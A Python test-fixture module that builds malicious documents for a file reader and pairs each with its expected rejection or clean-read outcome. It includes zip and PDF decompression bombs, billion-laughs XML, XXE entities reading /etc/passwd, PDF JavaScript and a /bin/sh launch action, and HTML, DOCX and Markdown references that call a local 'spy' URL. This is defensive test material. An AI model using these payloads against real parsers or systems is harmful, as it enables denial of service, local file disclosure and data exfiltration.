"""Files made to do harm, each with what must become of it: a sentence without the file's name, or READ and its text."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator

from office_writer import docx, p, r
from pdf_writer import Text, pdf

READ = "read: "
SECRET = "看不见的机密"
BODY = "甲地通报全文。"
ENTITIES = "含有不安全的 XML 实体声明，已拒绝读取。"
PIXELS = "的像素太多（上限 8900 万），已拒绝读取。"
SPY = "http://127.0.0.1:{port}/spy"
"""Where whatever is fetched would arrive."""


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def repacked(package: bytes, changed: dict[str, bytes]) -> bytes:
    """A package with some of its members replaced or added."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return zipped(members | changed)


def png(width: int, height: int, rows: bytes = b"", extra: bytes = b"") -> bytes:
    """A PNG of one bit per pixel with a declared size, whatever its data holds."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tiff(frames: int) -> bytes:
    """A TIFF of that many pages, all of which share one pixel."""
    entries = ((256, 3, 1), (257, 3, 1), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (278, 3, 1), (279, 4, 1))
    size = 2 + 12 * len(entries) + 4
    out = bytearray(b"II*\0" + struct.pack("<I", 10) + b"\xff\0")
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", t, k, 1, v) for t, k, v in entries)
    for number in range(frames):
        out += directory + struct.pack("<I", 10 + size * (number + 1) if number + 1 < frames else 0)
    return bytes(out)


def paper(*objects: bytes, root: bytes = b"") -> bytes:
    """A PDF of raw objects from number 3 on: 1 is the catalog with ``root`` inside, whose pages are object 2."""
    out = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate((b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>", *objects), 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    size = len(places) + 1
    return (
        out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table
        + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (size, start)
    )  # fmt: skip


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), more) + data + b"\nendstream"


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_FONT = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def _page(content: int = 4, more: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s /Contents %d 0 R %s >>" % (_FONT, content, more)


_SHOWN = b"BT /F1 12 Tf 72 700 Td (Report of district A. Patents: 120.) Tj ET"


def pdfs(port: int) -> Iterator[tuple[str, bytes, str]]:
    """(name, content, what must become of it)."""
    kids = b" ".join([b"3 0 R"] * 100_000)
    many = b"<< /Type /Pages /Kids [" + kids + b"] /Count 100000 >>"
    yield "十万页.pdf", paper(many, _page(), _stream(_SHOWN)), "有 100000 页，超过 20000 页的上限。"
    yield (
        "谎报页数.pdf",
        paper(_PAGES.replace(b"Count 1", b"Count 2000000000"), _page(), _stream(_SHOWN)),
        READ + "Report of district A. Patents: 120.",
    )
    yield "页树成环.pdf", paper(b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), "已损坏，或不是 PDF 文件。"
    bomb = zlib.compress(zlib.compress(b" " * (60 << 20), 9), 9)
    yield (
        "压缩炸弹.pdf",
        paper(_PAGES, _page(), _stream(bomb, b"/Filter [/FlateDecode /FlateDecode]")),
        "共 1 页，没有文字层，也没有图像。",
    )
    spy = SPY.format(port=port).encode()
    acts = (
        b"/OpenAction << /S /JavaScript /JS (app.launchURL('" + spy + b"');) >> "
        b"/AA << /WC << /S /Launch /F (/bin/sh) >> >> "
        b"/AcroForm << /XFA 5 0 R /Fields [] >> /Names << /EmbeddedFiles << /Names [(x.txt) 6 0 R] >> >>"
    )
    links = b"/AA << /O << /S /URI /URI (" + spy + b") >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
    links += b" /A << /S /GoToR /F (" + spy + b") /D [0 /Fit] >> >>]"
    embedded = b"<< /Type /Filespec /F (x.txt) /EF << /F 5 0 R >> >>"
    active = paper(_PAGES, _page(more=links), _stream(_SHOWN), _stream(SECRET.encode()), embedded, root=acts)
    yield "会动手.pdf", active, READ + "Report of district A. Patents: 120."
    image = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    for filter_ in (b"JBIG2Decode", b"JPXDecode", b"DCTDecode"):
        drawn = _page(more=b"").replace(b"/Resources <<", b"/Resources << /XObject << /I 5 0 R >>")
        shown = _stream(_SHOWN + b" q 500 0 0 500 0 0 cm /I Do Q")
        odd = paper(_PAGES, drawn, shown, _stream(b"\x97JB2\r\n\x1a\n" * 9, image + b" /Filter /" + filter_))
        yield f"怪图{filter_.decode()}.pdf", odd, READ + "Report of district A. Patents: 120."
    hidden = [
        Text(72, 700, BODY), Text(72, 680, SECRET, white=True), Text(72, 660, SECRET, mode=3),
        Text(72, 640, SECRET, 0.1), Text(72, 620, SECRET, alpha=0), Text(-900, 600, SECRET), Text(72, 2000, SECRET),
    ]  # fmt: skip
    yield "藏字.pdf", pdf([hidden]), READ + BODY


def packages(port: int) -> Iterator[tuple[str, bytes, str]]:
    """Archives and Office files."""
    zeros = bytes(60 << 20)
    yield "平炸弹.zip", zipped({"a.txt": zeros}), "解压后过大，已拒绝读取。"
    inner = zipped({f"{n}.txt": bytes(30 << 20) for n in range(3)})
    yield (
        "套炸弹.zip",
        zipped({"b.zip": zipped({"c.zip": inner}), "d.txt": BODY.encode()}),
        "#b.zip#c.zip 是压缩包里的压缩包，嵌套过深，已拒绝读取。",
    )
    yield "重叠.zip", _overlapping(200), "解压后过大，已拒绝读取。"
    honest = zipped({"a.txt": bytes(30 << 20)})
    yield (
        "谎报大小.zip",
        honest.replace(struct.pack("<I", 30 << 20), struct.pack("<I", 9)),
        "#a.txt 已损坏，或不是 ZIP 压缩包。",
    )
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>'
    outside = '<!DOCTYPE x [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>'
    fetched = f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{SPY.format(port=port)}"> %d;]>'
    quadratic = f'<!DOCTYPE x [<!ENTITY l9 "{"a" * 50_000}">]>'
    document = docx(p(BODY, "&l9;" * 1000))
    for name, type_ in (("笑弹", laughs), ("外部实体", outside), ("远程实体", fetched), ("平方实体", quadratic)):
        with zipfile.ZipFile(io.BytesIO(document)) as archive:
            body = archive.read("word/document.xml").decode()
        yield f"{name}.docx", repacked(document, {"word/document.xml": (type_ + body).encode()}), ENTITIES
        for code in ("utf-16", "utf-16-be", "utf-32", "utf-7", "cp037"):
            encoded = f'<?xml version="1.0" encoding="{code}"?>{type_}{body}'.encode(code, "xmlcharrefreplace")
            yield (
                f"{name}-{code}.docx",
                repacked(document, {"word/document.xml": encoded}),
                "已损坏，或不是 DOCX 文件。" if code == "cp037" else ENTITIES,
            )
    vanished = p(BODY, r(SECRET, "<w:vanish/>"), r(SECRET, '<w:color w:val="FFFFFF"/>'), r(SECRET, '<w:sz w:val="1"/>'))
    yield "藏字.docx", docx(vanished), READ + BODY
    spy = SPY.format(port=port)
    relation = '<Relationship Id="x{n}" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/'
    relation += '2006/relationships/{kind}" Target="{target}"/>'
    kinds = ("image", "attachedTemplate", "oleObject", "aFChunk", "hyperlink", "frame", "subDocument", "footnotes")
    targets = "".join(relation.format(n=n, kind=k, target=spy) for n, k in enumerate(kinds))
    targets += relation.format(n=99, kind="aFChunk", target="file:///etc/passwd").replace(' TargetMode="External"', "")
    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{targets}'
    chunk = '<w:altChunk r:id="x3"/><w:altChunk r:id="x99"/><w:subDoc r:id="x6"/>'
    remote = repacked(docx(p(BODY) + chunk), {"word/_rels/document.xml.rels": f"{relations}</Relationships>".encode()})
    yield "远程引用.docx", remote, READ + BODY
    deep = "<w:sdt><w:sdtContent>" * 60_000 + p(BODY) + "</w:sdtContent></w:sdt>" * 60_000
    yield "深嵌套.docx", docx(deep), "已损坏，或不是 DOCX 文件。"


def _overlapping(count: int) -> bytes:
    """An archive whose members are all the same bytes, each unpacking to 20 MB."""
    data = bytearray(zipped({"a.txt": bytes(20 << 20)}))
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = bytes(data[start:end])
    entries = b"".join(entry.replace(b"a.txt", b"%05d" % n) for n in range(count))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entries), start, 0)
    return bytes(data[:start]) + entries + tail


def pictures(port: int) -> Iterator[tuple[str, bytes, str]]:
    """Pictures that promise more than they hold."""
    yield "大.png", png(60_000, 60_000), PIXELS
    yield "最大.png", png(2**31 - 1, 2**31 - 1), PIXELS
    text = zlib.compress(bytes(40 << 20), 9)
    white = b"\0\xff" * 8
    yield "文字块.png", png(8, 8, white, _chunk(b"zTXt", b"a\0\0" + text)), "已损坏，或不是图片。"
    yield "色彩块.png", png(8, 8, white, _chunk(b"iCCP", b"a\0\0" + text)), "已损坏，或不是图片。"
    bmp = struct.pack("<2sIHHIIiiHHIIiiII", b"BM", 60, 0, 0, 54, 40, 60_000, 60_000, 1, 1, 0, 0, 0, 0, 0, 0)
    yield "大.bmp", bmp, PIXELS
    webp = b"RIFF" + struct.pack("<I", 26) + b"WEBPVP8L" + struct.pack("<I", 14) + b"/\xff\xff\xff\x0f" + bytes(9)
    yield "大.webp", webp, PIXELS
    yield "多页.tiff", tiff(20_000), "超过 2000 页的上限。"


def texts(port: int) -> Iterator[tuple[str, bytes, str]]:
    """Web pages, Markdown, tables, JSON."""
    spy = SPY.format(port=port)
    yield "深.html", ("<html><body>" + "<div>" * 100_000 + BODY).encode(), "的标签嵌套过深，已拒绝读取。"
    hidden = "".join(
        f'<p style="{style}">{SECRET}</p>'
        for style in (
            "display:none", "visibility:hidden", "opacity:0", "font-size:0", "color:#fff",
            "position:absolute;left:-9999px", "color:transparent", "font-size:1px", "text-indent:-9999px",
            "clip:rect(0,0,0,0);position:absolute",
        )
    )  # fmt: skip
    fetching = (
        f'<meta http-equiv="refresh" content="0;url={spy}"><link rel="stylesheet" href="{spy}">'
        f'<script src="{spy}"></script><style>@import "{spy}"</style></head><body><p>{BODY}</p><img src="{spy}" alt="">'
        f'<iframe src="{spy}" srcdoc="&lt;p&gt;{SECRET}"></iframe><object data="{spy}"></object>'
        f'<svg><image href="{spy}"/><use href="file:///etc/passwd"/></svg><p hidden>{SECRET}</p><!-- {SECRET} -->'
        f"<template>{SECRET}</template><noscript>{SECRET}</noscript>{hidden}"
    )
    yield "引用.html", f"<!doctype html><html><head><title>通报</title>{fetching}".encode(), READ + BODY
    entities = '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><p>甲&x;乙</p>'
    yield "实体.html", entities.encode(), READ + "]>\n甲&x;乙"
    yield (
        "引用.md",
        f"# 通报\n\n{BODY}\n\n![](file:///etc/passwd)\n\n![]({spy})\n\n<!-- {SECRET} -->\n".encode(),
        READ + "通报\n" + BODY,
    )
    yield "宽.csv", b",".join([b"1"] * 20_000), READ + "\t".join(["1"] * 20_000)
    yield "深.json", b"[" * 100_000, "不是有效的 JSON。"
    yield (
        "长名.json",
        json.dumps({"甲" * 300_000: list(range(1000))}).encode(),
        READ + "\n".join(f"{'甲' * 200}.{n + 1}：{n}" for n in range(1000)),
    )
    yield "深.jsonl", b'{"id": "1", "text": ' + b"[" * 100_000 + b"\n", ":1 这一行嵌套过深。"
